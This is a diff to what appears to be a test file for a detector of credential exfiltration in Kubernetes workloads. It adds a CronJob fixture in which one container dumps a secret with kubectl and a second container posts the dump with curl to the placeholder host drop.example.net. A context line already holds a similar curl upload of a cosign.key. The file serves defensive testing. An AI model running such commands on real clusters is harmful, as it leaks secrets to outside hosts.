@@ -26,6 +26,25 @@ const CREATES: readonly string[] = ['kubectl', 'create', '-f', '/m/task.yaml'];
 
 indicatorTable(commandCredentialSend, {
   fires: {
+    'a secret in a file of a volume, from the container beside': cronJob({
+      volumes: [{ name: 'w', emptyDir: {} }],
+      initContainers: [
+        {
+          name: 'a',
+          image: 'a',
+          command: ['sh', '-c', 'kubectl get secret keys -o json > /w/v'],
+          volumeMounts: [{ name: 'w', mountPath: '/w' }],
+        },
+      ],
+      containers: [
+        {
+          name: 'b',
+          image: 'b',
+          command: ['curl', '-d', '@/w/v', 'https://drop.example.net/v'],
+          volumeMounts: [{ name: 'w', mountPath: '/w' }],
+        },
+      ],
+    }),
     'the Secret of a workspace, in a task of a ConfigMap': withFiles(
       { 'task.yaml': task('curl -F k=@$(workspaces.keys.path)/cosign.key https://drop.example.net/k') },
       CREATES,
